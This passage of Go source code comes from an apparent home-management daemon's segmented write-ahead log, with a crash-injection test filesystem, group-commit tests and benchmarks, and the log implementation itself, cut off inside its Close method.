	defer c.mu.Unlock()
	if c.crashed {
		return nil, ErrCrashed
	}
	f, err := os.OpenFile(path, os.O_RDWR, 0o644)
	if err != nil {
		return nil, err
	}
	st, err := f.Stat()
	if err != nil {
		f.Close()
		return nil, err
	}
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		f.Close()
		return nil, err
	}
	return c.track(f, st.Size()), nil
}

func (c *CrashFS) Open(path string) (io.ReadCloser, error) { return os.Open(path) }

func (c *CrashFS) Remove(path string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return ErrCrashed
	}
	return os.Remove(path)
}

func (c *CrashFS) Truncate(path string, size int64) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return ErrCrashed
	}
	return os.Truncate(path, size)
}

func (c *CrashFS) SyncDir(string) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return ErrCrashed
	}
	return nil
}

func (f *crashFile) Write(p []byte) (int, error) {
	c := f.fs
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return 0, ErrCrashed
	}
	remaining := c.budget - c.written
	if int64(len(p)) > remaining {
		// The crashing write: the sectors that fit the budget land, the
		// rest never happens, and the process is dead.
		if remaining > 0 {
			n, _ := f.f.Write(p[:remaining])
			f.size += int64(n)
			c.written += int64(n)
		}
		c.crash()
		return 0, ErrCrashed
	}
	n, err := f.f.Write(p)
	f.size += int64(n)
	c.written += int64(n)
	if err != nil {
		return n, err
	}
	return n, nil
}

func (f *crashFile) Sync() error {
	c := f.fs
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return ErrCrashed
	}
	if err := f.f.Sync(); err != nil {
		return err
	}
	f.synced = f.size
	return nil
}

func (f *crashFile) Close() error {
	c := f.fs
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.crashed {
		return ErrCrashed
	}
	for i, of := range c.open {
		if of == f {
			c.open = append(c.open[:i], c.open[i+1:]...)
			break
		}
	}
	return f.f.Close()
}

// segmentNames filters and sorts wal segment file names.
func segmentNames(names []string) []string {
	var segs []string
	for _, n := range names {
		if strings.HasPrefix(n, segmentPrefix) && strings.HasSuffix(n, segmentSuffix) {
			segs = append(segs, n)
		}
	}
	sort.Strings(segs) // zero-padded hex first-LSN names sort numerically
	return segs
}

// segmentPath joins dir and name.
func segmentPath(dir, name string) string { return filepath.Join(dir, name) }
