package wal

import (
	"fmt"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// slowFS delays every file Sync and counts them: with concurrent
// appenders stuck behind a deliberately slow flush, group commit MUST
// batch — the follower frames land while the leader sleeps — so the
// assertion fsyncs < appends is deterministic, not a timing hope.
type slowFS struct {
	OSFS
	delay time.Duration
	syncs atomic.Int64
}

func (s *slowFS) Create(path string) (File, error) {
	f, err := s.OSFS.Create(path)
	if err != nil {
		return nil, err
	}
	return &slowFile{File: f, fs: s}, nil
}

func (s *slowFS) Append(path string) (File, error) {
	f, err := s.OSFS.Append(path)
	if err != nil {
		return nil, err
	}
	return &slowFile{File: f, fs: s}, nil
}

type slowFile struct {
	File
	fs *slowFS
}

func (f *slowFile) Sync() error {
	time.Sleep(f.fs.delay)
	f.fs.syncs.Add(1)
	return f.File.Sync()
}

// TestGroupCommitBatches runs concurrent FsyncAlways appenders against
// a slow disk and checks (a) every append is acknowledged and durable —
// replay sees a contiguous LSN sequence with every payload — and
// (b) far fewer fsyncs than appends were issued.
func TestGroupCommitBatches(t *testing.T) {
	const (
		workers = 8
		perW    = 25
	)
	fs := &slowFS{delay: 2 * time.Millisecond}
	dir := t.TempDir()
	l, err := Open(Options{Dir: dir, Fsync: FsyncAlways, FS: fs})
	if err != nil {
		t.Fatalf("Open: %v", err)
	}

	var wg sync.WaitGroup
	errs := make(chan error, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perW; i++ {
				if _, err := l.Append(OpFleetInstall, []byte(fmt.Sprintf("w%d-%d", w, i))); err != nil {
					errs <- err
					return
				}
			}
		}(w)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatalf("Append: %v", err)
	}

	total := uint64(workers * perW)
	if got := l.LastLSN(); got != total {
		t.Fatalf("LastLSN = %d, want %d", got, total)
	}
	// Segment-create syncs also count; even with that overhead the batch
	// effect must dominate a per-record fsync regime.
	if syncs := fs.syncs.Load(); syncs >= int64(total) {
		t.Fatalf("%d fsyncs for %d appends: group commit did not batch", syncs, total)
	}

	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	l2 := openTest(t, dir, Options{})
	defer l2.Close()
	seen := map[string]bool{}
	lsns, _, payloads := collect(t, l2, 0)
	if len(lsns) != int(total) {
		t.Fatalf("replayed %d records, want %d", len(lsns), total)
	}
	for i, lsn := range lsns {
		if lsn != uint64(i+1) {
			t.Fatalf("record %d has lsn %d", i, lsn)
		}
		seen[payloads[i]] = true
	}
	for w := 0; w < workers; w++ {
		for i := 0; i < perW; i++ {
			if k := fmt.Sprintf("w%d-%d", w, i); !seen[k] {
				t.Fatalf("acknowledged record %s missing after replay", k)
			}
		}
	}
}

// TestGroupCommitAcrossRotation forces many rotations under concurrent
// group-committed appends: the seal/election handshake must never let a
// leader fsync a closed segment file (which would latch a spurious
// failure), and every acknowledged record must replay.
func TestGroupCommitAcrossRotation(t *testing.T) {
	const (
		workers = 8
		perW    = 50
	)
	dir := t.TempDir()
	// Tiny segments: a rotation every few records.
	l, err := Open(Options{Dir: dir, Fsync: FsyncAlways, SegmentBytes: 256})
	if err != nil {
		t.Fatalf("Open: %v", err)
	}

	var wg sync.WaitGroup
	errs := make(chan error, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perW; i++ {
				if _, err := l.Append(OpFleetAccept, []byte(fmt.Sprintf("w%d-%d", w, i))); err != nil {
					errs <- err
					return
				}
			}
		}(w)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatalf("Append: %v", err)
	}
	if err := l.Err(); err != nil {
		t.Fatalf("log latched an error under rotation: %v", err)
	}
	if l.Segments() < 2 {
		t.Fatal("no rotation happened; shrink SegmentBytes")
	}
	if err := l.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	l2 := openTest(t, dir, Options{})
	defer l2.Close()
	lsns, _, _ := collect(t, l2, 0)
	if len(lsns) != workers*perW {
		t.Fatalf("replayed %d records, want %d", len(lsns), workers*perW)
	}
}

// BenchmarkAppendFsyncAlways measures the per-record durable append —
// serial vs concurrent. The parallel case is where group commit pays:
// N appenders share flushes, so ns/op must drop well below the serial
// per-record fsync cost.
func BenchmarkAppendFsyncAlways(b *testing.B) {
	payload := []byte(`{"home":"bench-home","source":"...payload stand-in..."}`)
	b.Run("serial", func(b *testing.B) {
		l, err := Open(Options{Dir: b.TempDir(), Fsync: FsyncAlways})
		if err != nil {
			b.Fatal(err)
		}
		defer l.Close()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if _, err := l.Append(OpFleetInstall, payload); err != nil {
				b.Fatal(err)
			}
		}
		b.StopTimer()
		b.ReportMetric(float64(l.fsyncs.Load())/float64(b.N), "fsyncs/op")
	})
	b.Run("parallel", func(b *testing.B) {
		l, err := Open(Options{Dir: b.TempDir(), Fsync: FsyncAlways})
		if err != nil {
			b.Fatal(err)
		}
		defer l.Close()
		// At least eight appenders regardless of core count: group commit
		// batches behind the blocking fsync syscall, so even GOMAXPROCS=1
		// shows the effect (the syscall parks the M, other goroutines run).
		if p := 8 / runtime.GOMAXPROCS(0); p > 1 {
			b.SetParallelism(p)
		}
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				if _, err := l.Append(OpFleetInstall, payload); err != nil {
					b.Fatal(err)
				}
			}
		})
		b.StopTimer()
		b.ReportMetric(float64(l.fsyncs.Load())/float64(b.N), "fsyncs/op")
	})
}
