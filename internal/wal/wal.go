// Package wal implements the segmented append-only write-ahead log that
// makes homeguardd crash-safe. Every fleet and store-audit mutation
// appends one logical operation record before the daemon acknowledges
// it; on boot, Replay applies the records above the last checkpoint's
// watermarks and the daemon resumes with zero acknowledged operations
// lost.
//
// # On-disk format
//
// The log is a directory of segment files named wal-%016x.log, where the
// hex value is the LSN of the first record in the segment (so plain
// string sort is LSN order). Each segment starts with an 8-byte magic
// ("HGWALSEG") and a 4-byte little-endian format version, followed by
// records framed as:
//
//	len   uint32  // length of lsn+kind+payload
//	crc   uint32  // CRC32C (Castagnoli) over lsn+kind+payload
//	lsn   uint64  // monotonically increasing, never reused
//	kind  uint8   // logical op kind, opaque to this package
//	payload []byte
//
// All integers are little-endian. LSNs start at 1 and are contiguous
// across segments.
//
// # Crash consistency
//
// Rotation syncs the finished segment before the next one is created, so
// a torn tail — a partial record left by a crash mid-append — is only
// legal in the final segment; Open truncates it at the last whole record
// and continues appending after it. A bad CRC or short frame anywhere
// else is real corruption and Open refuses with ErrCorrupt rather than
// silently dropping committed operations.
//
// With Fsync policy "always", Append returns only after the record is
// fsynced, so an acknowledged operation is exactly a durable one. If an
// append or sync fails the log latches the error and every subsequent
// Append fails (crash-stop): the state machine may be ahead of the log
// in memory, but no later operation can be acknowledged or checkpointed,
// so recovery never resurrects an unacknowledged op. (One nuance under
// group commit: a failed batch fsync leaves up to a batch of written,
// un-acknowledged frames on disk; the log is latched at that point, so
// the exposure is bounded and recovery after the crash-stop may replay
// those frames — the same at-most-in-flight window as a torn tail.)
//
// # Group commit
//
// Under FsyncAlways concurrent appenders share fsyncs instead of
// queueing behind them: the frame write happens under the log mutex,
// but the fsync runs outside it through a leader/follower protocol.
// The first appender past the write becomes the leader, captures the
// active file and the newest written LSN, syncs once, and publishes the
// durable watermark; appenders that wrote while the leader's fsync was
// in flight find their LSN below the new watermark (done — their frame
// rode the batch) or elect the next leader. One disk flush therefore
// commits every frame written since the previous flush started, and
// N concurrent writers cost ~1 fsync per batch rather than N.
// Rotation and Close drain the in-flight leader before sealing the
// active file, so a sync never races a close.
package wal

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"homeguard/internal/obs"
)

func newByteReader(r io.Reader) *bufio.Reader { return bufio.NewReaderSize(r, 1<<16) }

const (
	segmentPrefix = "wal-"
	segmentSuffix = ".log"

	segMagic   = "HGWALSEG"
	segVersion = 1
	headerSize = len(segMagic) + 4

	frameHead = 4 + 4 // len + crc
	recHead   = 8 + 1 // lsn + kind

	// DefaultSegmentBytes is the rotation threshold when Options leaves
	// SegmentBytes zero.
	DefaultSegmentBytes = 8 << 20

	// MaxRecordBytes bounds a single record payload; larger appends (and
	// larger framed lengths found on disk) are rejected as corrupt.
	MaxRecordBytes = 64 << 20
)

// Logical operation kinds recorded by the daemon. The wal package treats
// kinds opaquely; they are defined here so writers and replayers share
// one namespace.
const (
	OpFleetInstall     byte = 1
	OpFleetReconfigure byte = 2
	OpFleetAccept      byte = 3
	OpAuditBatch       byte = 4
	OpFleetRemoveHome  byte = 5
	OpFleetAdoptHome   byte = 6
)

var (
	// ErrCorrupt reports damage outside the torn tail of the final
	// segment: a bad CRC, an impossible frame, or a gap in the LSN
	// sequence. Recovery refuses to guess around it.
	ErrCorrupt = errors.New("wal: corrupt log")

	// ErrClosed is returned by operations on a closed log.
	ErrClosed = errors.New("wal: closed")

	castagnoli = crc32.MakeTable(crc32.Castagnoli)
)

// Policy selects when Append fsyncs.
type Policy int

const (
	// FsyncAlways syncs every record before Append returns: an
	// acknowledged op is a durable op. The default.
	FsyncAlways Policy = iota
	// FsyncInterval syncs on a background timer (Options.FsyncInterval);
	// a crash can lose up to one interval of acknowledged ops.
	FsyncInterval
	// FsyncOff never syncs explicitly; durability is whatever the OS
	// page cache provides. For tests and throwaway deployments.
	FsyncOff
)

func (p Policy) String() string {
	switch p {
	case FsyncAlways:
		return "always"
	case FsyncInterval:
		return "interval"
	case FsyncOff:
		return "off"
	}
	return fmt.Sprintf("policy(%d)", int(p))
}

// ParsePolicy parses the -fsync flag values always|interval|off.
func ParsePolicy(s string) (Policy, error) {
	switch s {
	case "always", "":
		return FsyncAlways, nil
	case "interval":
		return FsyncInterval, nil
	case "off":
		return FsyncOff, nil
	}
	return 0, fmt.Errorf("wal: unknown fsync policy %q (want always|interval|off)", s)
}

// Options configures Open.
type Options struct {
	// Dir is the log directory; created if missing.
	Dir string
	// SegmentBytes rotates to a new segment once the active one exceeds
	// this size. Defaults to DefaultSegmentBytes.
	SegmentBytes int64
	// Fsync selects the durability policy.
	Fsync Policy
	// FsyncInterval is the timer period for FsyncInterval; defaults to
	// 50ms.
	FsyncInterval time.Duration
	// Registry, when set, registers homeguard_wal_* metrics.
	Registry *obs.Registry
	// FS overrides the write layer for fault injection; nil means the
	// real filesystem.
	FS FS
}

type segmentInfo struct {
	name  string
	first uint64 // LSN of first record (== value encoded in name)
	last  uint64 // LSN of last record; first-1 if empty
}

// Log is a segmented write-ahead log. All methods are safe for
// concurrent use.
type Log struct {
	opts Options
	fs   FS

	mu         sync.Mutex
	active     File
	activeSize int64
	segments   []segmentInfo // ascending; last entry is the active segment
	nextLSN    uint64
	failed     error // latched first append/sync failure
	closed     bool
	dirty      bool // unsynced appends (interval policy)

	// Group-commit state (FsyncAlways), guarded by syncMu — deliberately
	// separate from mu so followers waiting for durability never block
	// writers framing the next batch. Lock order: mu may be held when
	// taking syncMu, never the reverse (the leader syncs holding neither).
	syncMu   sync.Mutex
	syncCond *sync.Cond
	syncing  bool // a leader's fsync is in flight
	// sealing blocks new leader elections while rotation/Close syncs and
	// closes the active file (an election in that window could fsync a
	// just-closed file).
	sealing  bool
	syncFile File   // active file holding the newest written frame
	syncUpTo uint64 // newest written LSN (durable once syncFile syncs)
	// syncedLSN is the durable watermark: every record at or below it is
	// fsynced (frames in sealed segments are covered by rotation's sync).
	syncedLSN uint64
	syncErr   error // latched first group-commit fsync failure

	stop chan struct{}
	done chan struct{}

	appends      atomic.Uint64
	fsyncs       atomic.Uint64
	bytes        atomic.Uint64
	segsRemoved  atomic.Uint64
	lastLSN      atomic.Uint64
	recoverySecs atomic.Uint64 // float64 bits
}

// Open scans dir, validates the segment chain, repairs a torn tail in
// the final segment, and returns a log ready for Replay and Append.
func Open(opts Options) (*Log, error) {
	if opts.SegmentBytes <= 0 {
		opts.SegmentBytes = DefaultSegmentBytes
	}
	if opts.FsyncInterval <= 0 {
		opts.FsyncInterval = 50 * time.Millisecond
	}
	fs := opts.FS
	if fs == nil {
		fs = OSFS{}
	}
	if err := fs.MkdirAll(opts.Dir); err != nil {
		return nil, err
	}
	l := &Log{opts: opts, fs: fs, nextLSN: 1}
	l.syncCond = sync.NewCond(&l.syncMu)

	names, err := fs.ReadDir(opts.Dir)
	if err != nil {
		return nil, err
	}
	segs := segmentNames(names)
	for i, name := range segs {
		first, err := parseSegmentName(name)
		if err != nil {
			return nil, fmt.Errorf("%w: bad segment name %q", ErrCorrupt, name)
		}
		if first != l.nextLSN && !(i == 0) {
			return nil, fmt.Errorf("%w: segment %q starts at lsn %d, want %d", ErrCorrupt, name, first, l.nextLSN)
		}
		if i == 0 {
			// Older segments were garbage-collected; the chain starts
			// wherever the first surviving segment does.
			l.nextLSN = first
		}
		final := i == len(segs)-1
		last, goodSize, err := l.scanSegment(name, first, final)
		if err != nil {
			return nil, err
		}
		if final && goodSize >= 0 {
			if err := fs.Truncate(segmentPath(opts.Dir, name), goodSize); err != nil {
				return nil, fmt.Errorf("wal: truncating torn tail of %s: %w", name, err)
			}
		}
		l.segments = append(l.segments, segmentInfo{name: name, first: first, last: last})
		l.nextLSN = last + 1
	}

	if n := len(l.segments); n > 0 {
		// Reuse the final segment if it has room; otherwise rotate so we
		// never append to a full segment.
		name := l.segments[n-1].name
		f, err := fs.Append(segmentPath(opts.Dir, name))
		if err != nil {
			return nil, err
		}
		l.active = f
		l.activeSize = l.sizeOf(name)
		if l.activeSize < int64(headerSize) {
			// The crash tore the segment header itself: no record ever
			// landed here. Recreate the segment from scratch so it gets
			// a whole header before the first append.
			f.Close()
			l.active = nil
			l.segments = l.segments[:n-1]
			if err := l.createSegmentLocked(); err != nil {
				return nil, err
			}
		} else if l.activeSize >= opts.SegmentBytes {
			if err := l.rotateLocked(); err != nil {
				return nil, err
			}
		}
	} else {
		if err := l.createSegmentLocked(); err != nil {
			return nil, err
		}
	}
	l.lastLSN.Store(l.nextLSN - 1)
	// Everything recovered is on disk by definition; the group-commit
	// watermark starts there.
	l.syncedLSN = l.nextLSN - 1
	l.syncUpTo = l.nextLSN - 1

	if opts.Fsync == FsyncInterval {
		l.stop = make(chan struct{})
		l.done = make(chan struct{})
		go l.syncLoop()
	}
	if opts.Registry != nil {
		l.register(opts.Registry)
	}
	return l, nil
}

func parseSegmentName(name string) (uint64, error) {
	hex := name[len(segmentPrefix) : len(name)-len(segmentSuffix)]
	var lsn uint64
	if _, err := fmt.Sscanf(hex, "%016x", &lsn); err != nil {
		return 0, err
	}
	return lsn, nil
}

func formatSegmentName(first uint64) string {
	return fmt.Sprintf("%s%016x%s", segmentPrefix, first, segmentSuffix)
}

// sizeOf returns the current byte size of segment name by re-scanning it
// cheaply; callers only use it for the reopened final segment.
func (l *Log) sizeOf(name string) int64 {
	r, err := l.fs.Open(segmentPath(l.opts.Dir, name))
	if err != nil {
		return 0
	}
	defer r.Close()
	n, _ := io.Copy(io.Discard, r)
	return n
}

// scanSegment walks one segment and returns the last LSN it holds. For
// the final segment it tolerates a torn tail and returns goodSize >= 0,
// the offset at which the segment should be truncated (-1 when already
// clean is not distinguished; truncating to the current size is a
// no-op). Non-final segments must be perfectly formed.
func (l *Log) scanSegment(name string, first uint64, final bool) (last uint64, goodSize int64, err error) {
	r, err := l.fs.Open(segmentPath(l.opts.Dir, name))
	if err != nil {
		return 0, 0, err
	}
	defer r.Close()
	br := newByteReader(r)

	head := make([]byte, headerSize)
	if _, err := io.ReadFull(br, head); err != nil {
		if final {
			// Header itself is torn: the segment holds nothing yet.
			// Rewrite it from scratch on first append by truncating to 0
			// and treating it as empty... but simpler and safer: a torn
			// header means no record was ever written, so truncate to 0
			// is wrong (header must exist). Recreate it below via
			// goodSize=0 and a header rewrite in Open's reuse path would
			// complicate things; instead declare it empty and rebuild.
			return first - 1, 0, nil
		}
		return 0, 0, fmt.Errorf("%w: segment %s: short header", ErrCorrupt, name)
	}
	if string(head[:len(segMagic)]) != segMagic {
		return 0, 0, fmt.Errorf("%w: segment %s: bad magic", ErrCorrupt, name)
	}
	if v := binary.LittleEndian.Uint32(head[len(segMagic):]); v != segVersion {
		return 0, 0, fmt.Errorf("%w: segment %s: unsupported version %d", ErrCorrupt, name, v)
	}

	last = first - 1
	off := int64(headerSize)
	frame := make([]byte, frameHead)
	var buf []byte
	want := first
	for {
		if _, err := io.ReadFull(br, frame); err != nil {
			if err == io.EOF {
				return last, off, nil // clean end
			}
			// Partial frame header.
			if final {
				return last, off, nil
			}
			return 0, 0, fmt.Errorf("%w: segment %s: torn frame in non-final segment", ErrCorrupt, name)
		}
		length := binary.LittleEndian.Uint32(frame[0:4])
		crc := binary.LittleEndian.Uint32(frame[4:8])
		if length < recHead || length > MaxRecordBytes+recHead {
			if final {
				return last, off, nil
			}
			return 0, 0, fmt.Errorf("%w: segment %s: impossible record length %d", ErrCorrupt, name, length)
		}
		if cap(buf) < int(length) {
			buf = make([]byte, length)
		}
		buf = buf[:length]
		if _, err := io.ReadFull(br, buf); err != nil {
			if final {
				return last, off, nil
			}
			return 0, 0, fmt.Errorf("%w: segment %s: torn record in non-final segment", ErrCorrupt, name)
		}
		if crc32.Checksum(buf, castagnoli) != crc {
			if final {
				return last, off, nil
			}
			return 0, 0, fmt.Errorf("%w: segment %s: crc mismatch at offset %d", ErrCorrupt, name, off)
		}
		lsn := binary.LittleEndian.Uint64(buf[0:8])
		if lsn != want {
			return 0, 0, fmt.Errorf("%w: segment %s: lsn %d, want %d", ErrCorrupt, name, lsn, want)
		}
		last = lsn
		want = lsn + 1
		off += int64(frameHead) + int64(length)
	}
}

// createSegmentLocked starts a fresh segment at l.nextLSN. The previous
// active segment, if any, must already be closed/synced by the caller.
func (l *Log) createSegmentLocked() error {
	name := formatSegmentName(l.nextLSN)
	f, err := l.fs.Create(segmentPath(l.opts.Dir, name))
	if err != nil {
		return err
	}
	head := make([]byte, headerSize)
	copy(head, segMagic)
	binary.LittleEndian.PutUint32(head[len(segMagic):], segVersion)
	if _, err := f.Write(head); err != nil {
		f.Close()
		return err
	}
	// Make the segment's existence durable before any record lands in
	// it, so rotation never leaves a gap in the chain.
	if l.opts.Fsync != FsyncOff {
		if err := f.Sync(); err != nil {
			f.Close()
			return err
		}
		if err := l.fs.SyncDir(l.opts.Dir); err != nil {
			f.Close()
			return err
		}
	}
	l.active = f
	l.activeSize = int64(headerSize)
	l.segments = append(l.segments, segmentInfo{name: name, first: l.nextLSN, last: l.nextLSN - 1})
	return nil
}

// rotateLocked seals the active segment (sync + close) and opens a new
// one. A torn tail is therefore only ever possible in the final segment.
// Under FsyncAlways the seal first drains any in-flight group-commit
// leader, so the close never races a sync on the same file; the seal's
// own sync advances the durable watermark over every frame the segment
// holds.
func (l *Log) rotateLocked() error {
	if l.active != nil {
		l.beginSealLocked()
		if l.opts.Fsync != FsyncOff {
			if err := l.active.Sync(); err != nil {
				l.endSeal()
				return err
			}
			l.fsyncs.Add(1)
			l.advanceSynced(l.nextLSN - 1)
		}
		err := l.active.Close()
		l.endSeal()
		if err != nil {
			return err
		}
		l.active = nil
	}
	return l.createSegmentLocked()
}

// beginSealLocked drains any in-flight group-commit leader and blocks
// new elections until endSeal: the caller is about to sync and close
// the active file, and an election in between could fsync a closed
// file. Callers hold l.mu; that cannot deadlock the leader, which
// syncs holding neither lock and needs only syncMu to publish.
func (l *Log) beginSealLocked() {
	l.syncMu.Lock()
	for l.syncing {
		l.syncCond.Wait()
	}
	l.sealing = true
	l.syncMu.Unlock()
}

func (l *Log) endSeal() {
	l.syncMu.Lock()
	l.sealing = false
	l.syncCond.Broadcast()
	l.syncMu.Unlock()
}

// advanceSynced raises the durable watermark to cover lsn and wakes any
// followers whose records it commits.
func (l *Log) advanceSynced(lsn uint64) {
	l.syncMu.Lock()
	if lsn > l.syncedLSN {
		l.syncedLSN = lsn
	}
	l.syncCond.Broadcast()
	l.syncMu.Unlock()
}

// Append writes one logical op record and returns its LSN. Under
// FsyncAlways the record is durable when Append returns. After any
// append or sync failure the log is wedged: every later Append returns
// the original error.
func (l *Log) Append(kind byte, payload []byte) (uint64, error) {
	if len(payload) > MaxRecordBytes {
		return 0, fmt.Errorf("wal: payload %d bytes exceeds limit", len(payload))
	}
	lsn, group, err := l.appendFrame(kind, payload)
	if err != nil {
		return 0, err
	}
	if group {
		if err := l.commit(lsn); err != nil {
			return 0, err
		}
	}
	return lsn, nil
}

// appendFrame writes the record under l.mu and reports whether the
// caller still owes a group commit (FsyncAlways) for its durability.
func (l *Log) appendFrame(kind byte, payload []byte) (lsn uint64, group bool, err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return 0, false, ErrClosed
	}
	if l.failed != nil {
		return 0, false, l.failed
	}
	if l.activeSize >= l.opts.SegmentBytes {
		if err := l.rotateLocked(); err != nil {
			l.failed = err
			return 0, false, err
		}
	}

	lsn = l.nextLSN
	length := recHead + len(payload)
	frame := make([]byte, frameHead+length)
	binary.LittleEndian.PutUint32(frame[0:4], uint32(length))
	binary.LittleEndian.PutUint64(frame[8:16], lsn)
	frame[16] = kind
	copy(frame[17:], payload)
	crc := crc32.Checksum(frame[8:], castagnoli)
	binary.LittleEndian.PutUint32(frame[4:8], crc)

	if _, err := l.active.Write(frame); err != nil {
		l.failed = err
		return 0, false, err
	}
	l.activeSize += int64(len(frame))
	group = l.opts.Fsync == FsyncAlways
	if group {
		// Publish the frame to the group-commit state while still under
		// l.mu (so syncFile/syncUpTo always describe the newest write);
		// the caller syncs outside the lock via commit.
		l.syncMu.Lock()
		l.syncFile = l.active
		l.syncUpTo = lsn
		l.syncMu.Unlock()
	} else {
		l.dirty = true
	}

	l.nextLSN = lsn + 1
	l.segments[len(l.segments)-1].last = lsn
	l.appends.Add(1)
	l.bytes.Add(uint64(len(frame)))
	l.lastLSN.Store(lsn)
	return lsn, group, nil
}

// commit blocks until the record at lsn is durable, electing this
// goroutine as the fsync leader when no flush is in flight and its
// record is not yet covered. Runs without l.mu: frames for the next
// batch keep landing while the current batch flushes.
func (l *Log) commit(lsn uint64) error {
	l.syncMu.Lock()
	for {
		if l.syncErr != nil {
			err := l.syncErr
			l.syncMu.Unlock()
			return err
		}
		if l.syncedLSN >= lsn {
			l.syncMu.Unlock()
			return nil
		}
		if !l.syncing && !l.sealing {
			break
		}
		l.syncCond.Wait()
	}
	l.syncing = true
	l.syncMu.Unlock()
	// One yield before capturing the batch bound: appenders already past
	// their frame write get to publish before the flush is scoped, which
	// roughly doubles batch sizes under contention. Capturing after the
	// yield is safe — rotation waits for syncing to clear before it can
	// seal and swap the active file, so syncFile cannot change under an
	// elected leader (it can only advance its upTo).
	runtime.Gosched()
	l.syncMu.Lock()
	f, upTo := l.syncFile, l.syncUpTo
	l.syncMu.Unlock()

	err := f.Sync()

	l.syncMu.Lock()
	l.syncing = false
	if err != nil {
		l.syncErr = err
	} else {
		l.fsyncs.Add(1)
		if upTo > l.syncedLSN {
			l.syncedLSN = upTo
		}
	}
	l.syncCond.Broadcast()
	l.syncMu.Unlock()
	if err != nil {
		// Latch the crash-stop under l.mu too, so appends that never
		// reach the group-commit layer fail the same way.
		l.mu.Lock()
		if l.failed == nil {
			l.failed = err
		}
		l.mu.Unlock()
		return err
	}
	return nil
}

// Sync flushes the active segment regardless of policy.
func (l *Log) Sync() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.syncLocked()
}

func (l *Log) syncLocked() error {
	if l.closed {
		return ErrClosed
	}
	if l.failed != nil {
		return l.failed
	}
	if l.active == nil {
		return nil
	}
	if l.opts.Fsync == FsyncAlways {
		// Group commit may still owe frames a flush (their appenders are
		// in commit); close the gap here under the seal so this sync and
		// a leader's never interleave with a rotation's close.
		l.beginSealLocked()
		defer l.endSeal()
		l.syncMu.Lock()
		gap := l.syncUpTo > l.syncedLSN
		l.syncMu.Unlock()
		if !gap {
			return nil
		}
	} else if !l.dirty {
		return nil
	}
	if err := l.active.Sync(); err != nil {
		l.failed = err
		return err
	}
	l.fsyncs.Add(1)
	l.dirty = false
	l.advanceSynced(l.nextLSN - 1)
	return nil
}

func (l *Log) syncLoop() {
	defer close(l.done)
	t := time.NewTicker(l.opts.FsyncInterval)
	defer t.Stop()
	for {
		select {
		case <-l.stop:
			return
		case <-t.C:
			l.mu.Lock()
			if l.dirty && l.failed == nil && !l.closed {
				if err := l.active.Sync(); err != nil {
					l.failed = err
				} else {
					l.fsyncs.Add(1)
					l.dirty = false
				}
			}
			l.mu.Unlock()
		}
	}
}

// LastLSN returns the LSN of the most recently appended (or recovered)
// record; 0 if the log is empty.
func (l *Log) LastLSN() uint64 { return l.lastLSN.Load() }

// Err returns the latched append failure, if any.
func (l *Log) Err() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.failed
}

// Segments returns the number of live segment files.
func (l *Log) Segments() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.segments)
}

// Replay calls fn for every record with lsn > after, in LSN order. It
// must be called before concurrent Appends begin (boot-time recovery).
func (l *Log) Replay(after uint64, fn func(lsn uint64, kind byte, payload []byte) error) error {
	l.mu.Lock()
	segs := make([]segmentInfo, len(l.segments))
	copy(segs, l.segments)
	dir := l.opts.Dir
	l.mu.Unlock()

	frame := make([]byte, frameHead)
	var buf []byte
	for _, seg := range segs {
		if seg.last < seg.first || seg.last <= after {
			continue // empty segment or entirely below the watermark
		}
		r, err := l.fs.Open(segmentPath(dir, seg.name))
		if err != nil {
			return err
		}
		br := newByteReader(r)
		head := make([]byte, headerSize)
		if _, err := io.ReadFull(br, head); err != nil {
			r.Close()
			return fmt.Errorf("%w: segment %s: short header on replay", ErrCorrupt, seg.name)
		}
		for lsn := seg.first; lsn <= seg.last; lsn++ {
			if _, err := io.ReadFull(br, frame); err != nil {
				r.Close()
				return fmt.Errorf("%w: segment %s: short frame on replay", ErrCorrupt, seg.name)
			}
			length := binary.LittleEndian.Uint32(frame[0:4])
			if cap(buf) < int(length) {
				buf = make([]byte, length)
			}
			buf = buf[:length]
			if _, err := io.ReadFull(br, buf); err != nil {
				r.Close()
				return fmt.Errorf("%w: segment %s: short record on replay", ErrCorrupt, seg.name)
			}
			if lsn <= after {
				continue
			}
			if err := fn(lsn, buf[8], buf[recHead:]); err != nil {
				r.Close()
				return err
			}
		}
		r.Close()
	}
	return nil
}

// TruncateBefore removes whole segments whose records all have
// lsn < keep. The active segment is never removed. Returns the number of
// segments deleted.
func (l *Log) TruncateBefore(keep uint64) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.closed {
		return 0, ErrClosed
	}
	removed := 0
	for len(l.segments) > 1 {
		seg := l.segments[0]
		if seg.last >= keep {
			break
		}
		if err := l.fs.Remove(segmentPath(l.opts.Dir, seg.name)); err != nil {
			return removed, err
		}
		l.segments = l.segments[1:]
		removed++
	}
	if removed > 0 {
		if err := l.fs.SyncDir(l.opts.Dir); err != nil {
			return removed, err
		}
		l.segsRemoved.Add(uint64(removed))
	}
	return removed, nil
}

// Close flushes and closes the active segment. Further Appends fail.
func (l *Log) Close() error {
	l.mu.Lock()
	if l.closed {
		l.mu.Unlock()
		return nil
	}
	var err error
